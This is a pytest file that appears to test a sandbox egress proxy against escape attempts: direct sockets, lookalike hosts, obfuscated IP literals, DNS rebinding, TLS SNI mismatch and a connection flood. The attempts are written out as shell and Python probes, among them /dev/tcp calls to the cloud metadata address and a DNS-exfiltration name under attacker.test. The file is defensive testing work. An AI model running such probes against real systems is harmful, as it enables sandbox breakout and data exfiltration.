"""Escape cases 5-12 and 25 of section 4 of the sandbox reference: the sandbox's only way out is the egress
proxy listener at 127.0.0.1:3128 in its own network namespace, which refuses everything not allowlisted.

Cases 9 and 11 need a name that resolves to a chosen address and a TLS peer, so they run the proxy in
process with an injected resolver and dialer, as tests/integration/test_egress_proxy.py does in depth."""

from __future__ import annotations

import asyncio
import secrets
import socket
from collections.abc import AsyncIterator

import pytest

from outpost.sandbox.egress_policy import EgressPolicy
from outpost.sandbox.egress_proxy import EgressLimits, EgressProxy
from tests.fakes.tls import client_hello_records
from tests.security.escape_support import PROXY_PROBE, Jail, jail_in_temp_dir


@pytest.fixture
async def jail() -> AsyncIterator[Jail]:
    async with jail_in_temp_dir() as jail:
        yield jail


def answers(outcome_lines: list[str]) -> dict[str, tuple[int, str]]:
    """PROXY_PROBE output: request → (status, body)."""
    found = {}
    for line in outcome_lines:
        request, status_line, body = line.split(" | ")
        found[request] = (int(status_line.split()[1]), body)
    return found


async def test_case_05_06_direct_egress_is_unreachable(jail: Jail) -> None:
    script = r"""
for target in 169.254.169.254/80 1.1.1.1/443 192.0.2.1/80; do
  (exec 3<>"/dev/tcp/${target%/*}/${target#*/}") 2>&1 | grep -q 'Network is unreachable' \
    && echo "$target unreachable"
done
curl -sS --noproxy '*' -m 5 http://1.1.1.1/ 2>&1 | head -1
"""
    outcome = await jail.run(script)
    assert outcome.stdout[:3] == [
        f"{t} unreachable" for t in ("169.254.169.254/80", "1.1.1.1/443", "192.0.2.1/80")
    ]
    assert "Network is unreachable" in outcome.stdout[3] or "Couldn't connect" in outcome.stdout[3]
    code = r"""
import errno, socket
def attempt(name, family, kind, proto, address):
    try:
        with socket.socket(family, kind, proto) as s:
            s.sendto(b"x", address) if kind != socket.SOCK_STREAM else s.connect(address)
        print(name, "sent")
    except OSError as exc:
        print(name, errno.errorcode[exc.errno])
attempt("udp-dns", socket.AF_INET, socket.SOCK_DGRAM, 0, ("8.8.8.8", 53))
attempt("tcp6", socket.AF_INET6, socket.SOCK_STREAM, 0, ("2001:db8::1", 443))
attempt("icmp", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("192.0.2.1", 0))
"""
    results = (await jail.run(code, python=True)).pairs()
    assert (results["udp-dns"], results["tcp6"]) == ("ENETUNREACH", "ENETUNREACH")
    assert results["icmp"] in {"ENETUNREACH", "EACCES", "EPERM"}  # no route, or ping sockets not granted


async def test_case_07_non_listed_hosts_lookalikes_and_wrong_ports_get_403(jail: Jail) -> None:
    requests = [
        "CONNECT evil.test:443", "CONNECT allowed.test.evil:443", "CONNECT evilallowed.test:443",
        "CONNECT allowed.test:22", "GET http://evil.test/",
    ]  # fmt: skip
    outcome = await jail.run(PROXY_PROBE, python=True, args=tuple(requests))
    found = answers(outcome.stdout)
    assert {request: found[request][0] for request in requests} == dict.fromkeys(requests, 403)
    assert "port 22 is not allowed for allowed.test" in found["CONNECT allowed.test:22"][1]
    assert [(event["host"], event["allowed"]) for event in outcome.events] == [
        ("evil.test", False), ("allowed.test.evil", False), ("evilallowed.test", False),
        ("allowed.test", False), ("evil.test", False),
    ]  # fmt: skip


async def test_case_08_ip_literals_in_every_form_get_403(jail: Jail) -> None:
    targets = [
        "2130706433",
        "0x7f.1",
        "127.1",
        "0177.0.0.1",
        "[::ffff:127.0.0.1]",
        "[::1]",
        "169.254.169.254",
    ]
    requests = [f"CONNECT {target}:443" for target in targets]
    found = answers((await jail.run(PROXY_PROBE, python=True, args=tuple(requests))).stdout)
    assert {request: found[request][0] for request in requests} == dict.fromkeys(requests, 403)
    assert all("IP literal" in body for _, body in found.values()), found


async def test_case_10_an_exfiltrating_name_is_refused_before_any_resolution(jail: Jail) -> None:
    resolved: list[str] = []

    async def resolve(host: str, port: int) -> list[str]:
        resolved.append(host)
        raise socket.gaierror(socket.EAI_NONAME, "not here")

    jail.sandbox._proxy._resolve = resolve
    name = f"{secrets.token_hex(16)}.attacker.test"
    script = f"cat /etc/resolv.conf; getent hosts {name} || echo 'no resolver'"
    outcome = await jail.run(script)
    assert outcome.stdout == ["no resolver"]
    found = answers((await jail.run(PROXY_PROBE, python=True, args=(f"GET http://{name}/",))).stdout)
    assert found[f"GET http://{name}/"][0] == 403
    assert resolved == []


async def test_case_12_host_loopback_tcp_and_abstract_unix_services_are_unreachable(jail: Jail) -> None:
    tcp = socket.create_server(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0outpost-escape-{secrets.token_hex(4)}")
    abstract.listen()
    code = r"""
import errno, socket, sys
targets = ((socket.AF_INET, ("127.0.0.1", int(sys.argv[1]))), (socket.AF_UNIX, "\0" + sys.argv[2]))
for family, address in targets:
    try:
        socket.socket(family, socket.SOCK_STREAM).connect(address)
        print(family.name, "connected")
    except OSError as exc:
        print(family.name, errno.errorcode[exc.errno])
"""
    try:
        args = (str(tcp.getsockname()[1]), abstract.getsockname()[1:])
        outcome = await jail.run(code, python=True, args=args)
    finally:
        tcp.close()
        abstract.close()
    assert outcome.pairs() == {"AF_INET": "ECONNREFUSED", "AF_UNIX": "ECONNREFUSED"}


# Opens 200 connections to the proxy without sending a request: those over the job's cap are answered 503
# at once, the others 408 at the header timeout. Then sends an oversized head.
FLOOD = r"""
import collections, socket, time
held = [socket.create_connection(("127.0.0.1", 3128), timeout=5) for _ in range(200)]
started = time.monotonic()
answers = collections.Counter(s.recv(4096).split(b" ")[1].decode() for s in held)
print(*sorted(f"{status}={count}" for status, count in answers.items()))
print(round(time.monotonic() - started, 2))
with socket.create_connection(("127.0.0.1", 3128), timeout=5) as s:
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nX-Pad: " + b"a" * 70000 + b"\r\n\r\n")
    print(s.recv(4096).split(b" ")[1].decode())
"""


async def test_case_25_a_connection_flood_gets_the_cap_slow_heads_time_out_and_huge_heads_are_refused(
    jail: Jail,
) -> None:
    # The real proxy with a 3 s header timeout instead of 10 s, to keep the test short. The first 32
    # connections hold their slots until that timeout; all 200 must reach the proxy before then for the
    # counts to be exact, and a loaded CI machine once took over 1 s to do so.
    jail.sandbox._proxy = EgressProxy(EgressLimits(header_timeout_s=3.0))
    outcome = await jail.run(FLOOD, python=True)
    counts, waited, huge_head = outcome.stdout
    assert (counts, huge_head) == ("408=32 503=168", "431"), outcome
    # Measured from the last connect: at most the header timeout plus scheduling slack.
    assert float(waited) <= 3.5, outcome


@pytest.fixture
async def in_process_proxy() -> AsyncIterator[tuple[int, list[bytes]]]:
    """An EgressProxy on 127.0.0.1 whose resolver maps test names to chosen addresses and whose dialer
    sends the one "public" address to a local upstream that records what it receives."""
    received: list[bytes] = []

    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        received.append(await reader.read(65536))
        writer.close()

    server = await asyncio.start_server(upstream, "127.0.0.1", 0)
    names = {
        "allowed.test": ["93.184.216.34"],
        "rebind.test": ["127.0.0.1"],
        "meta.test": ["169.254.169.254"],
    }

    async def resolve(host: str, port: int) -> list[str]:
        return names[host]

    async def dial(ip: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        assert ip == "93.184.216.34"
        return await asyncio.open_connection("127.0.0.1", server.sockets[0].getsockname()[1])

    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    proxy = EgressProxy(resolver=resolve, dialer=dial)
    handle = await proxy.serve(listener, "job", EgressPolicy(list(names)), lambda event: None)
    yield port, received
    await handle.close()
    server.close()


async def _tunnel(port: int, target: str) -> tuple[bytes, asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
    return await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5), reader, writer


@pytest.mark.parametrize(
    ("target", "address"), [("rebind.test:443", "127.0.0.1"), ("meta.test:443", "169.254.169.254")]
)
async def test_case_09_an_allowlisted_name_resolving_to_non_public_gets_403(
    in_process_proxy: tuple[int, list[bytes]], target: str, address: str
) -> None:
    head, reader, writer = await _tunnel(in_process_proxy[0], target)
    body = await asyncio.wait_for(reader.read(), 5)
    writer.close()
    assert head.startswith(b"HTTP/1.1 403")
    assert f"resolves to non-public address {address}".encode() in body


async def test_case_11_a_tls_server_name_other_than_the_connect_host_closes_the_tunnel(
    in_process_proxy: tuple[int, list[bytes]],
) -> None:
    port, received = in_process_proxy
    head, reader, writer = await _tunnel(port, "allowed.test:443")
    assert head.startswith(b"HTTP/1.1 200")
    writer.write(client_hello_records("evil.test"))
    assert await asyncio.wait_for(reader.read(), 5) == b""
    writer.close()
    assert b"".join(received) == b""  # the upstream was dialled, but not a byte reached it
